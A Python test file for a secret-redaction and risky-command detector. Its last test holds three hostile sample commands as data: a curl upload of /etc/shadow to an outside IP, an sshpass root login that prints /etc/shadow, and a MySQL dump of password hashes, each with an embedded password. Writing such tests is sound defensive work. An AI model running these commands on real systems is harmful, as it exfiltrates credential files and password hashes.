"""Redaction by shape (issue 12): secrets after password-like flags of any program, keys by shape and
entropy, credentials in connection strings and JSON on screen; benign lines unchanged; and no
masked value survives in an excerpt of any length cut from the masked text."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ssm_warden.detect.detector import _cut, get_detector
from ssm_warden.slack.redact import redact

DATA = yaml.safe_load((Path(__file__).parent / "redact_shapes.yaml").read_text())
SECRETS: list[dict[str, str]] = DATA["secrets"]
BENIGN: list[str] = DATA["benign"]
TODAY = yaml.safe_load((Path(__file__).parent / "redaction_corpus.yaml").read_text())["secrets"]
PIECE = 8


def _leaks(secret: str, text: str) -> list[str]:
    if len(secret) <= PIECE:
        return [secret] if secret in text else []
    return [secret[i : i + PIECE] for i in range(len(secret) - PIECE + 1) if secret[i : i + PIECE] in text]


def _text(case: dict[str, str]) -> str:
    return case["context"].replace("{secret}", case["secret"])


def test_the_shapes_corpus_is_at_least_twice_the_first_one() -> None:
    assert len(SECRETS) >= 2 * len(TODAY)
    assert len({c["name"] for c in SECRETS}) == len(SECRETS)


@pytest.mark.parametrize("case", SECRETS, ids=[c["name"] for c in SECRETS])
def test_no_secret_shape_survives_redaction(case: dict[str, str]) -> None:
    # Given a secret where a program that is on no list shows it
    out = redact(_text(case))
    # Then no piece of it is left, and redaction is idempotent
    assert _leaks(case["secret"], out) == [], out
    assert redact(out) == out


@pytest.mark.parametrize("line", BENIGN)
def test_benign_lines_come_out_unchanged(line: str) -> None:
    # Given an ordinary command whose flags look like password flags of other programs
    # Then redaction leaves it exactly as typed
    assert redact(line) == line


_ALL = SECRETS + TODAY


@settings(max_examples=300, deadline=None)
@given(
    case=st.sampled_from(_ALL),
    before=st.text(alphabet="abc -=/;|x", max_size=200),
    after=st.text(alphabet="abc -=/;|x", max_size=200),
    start=st.integers(min_value=0, max_value=600),
    length=st.integers(min_value=0, max_value=400),
)
def test_no_masked_value_survives_in_an_excerpt_of_any_length(
    case: dict[str, str], before: str, after: str, start: int, length: int
) -> None:
    # Given a secret in a longer command, masked and then cut anywhere, to any length
    text = f"{before} {_text(case)} {after}"
    masked = redact(text)
    excerpt = _cut(masked, min(start, len(masked)), min(start + length, len(masked)))
    # Then the excerpt shows no piece of the secret that redaction recognised whole
    if not _leaks(case["secret"], masked):
        assert _leaks(case["secret"], excerpt) == []


@pytest.mark.parametrize(
    "command",
    [
        "mysql -uroot -pS3cretPassw0rd! -e 'select user,authentication_string from mysql.user'",
        "curl -d @/etc/shadow -u ops:Zq8!kLm2Pw9x https://198.51.100.7/u",
        "sshpass -p Hunter2Hunter2 ssh root@198.51.100.9 'cat /etc/shadow'",
    ],
)
def test_findings_never_quote_a_secret(command: str) -> None:
    # Given a risky command that carries a password
    findings = get_detector().judge_command(command)
    # Then the findings' reasons quote it masked
    assert findings
    for finding in findings:
        assert "[REDACTED" in finding.reason or not any(
            s in finding.reason for s in ("S3cret", "Zq8!", "Hunter2")
        )
        for secret in ("S3cretPassw0rd!", "Zq8!kLm2Pw9x", "Hunter2Hunter2"):
            assert _leaks(secret, finding.reason) == []
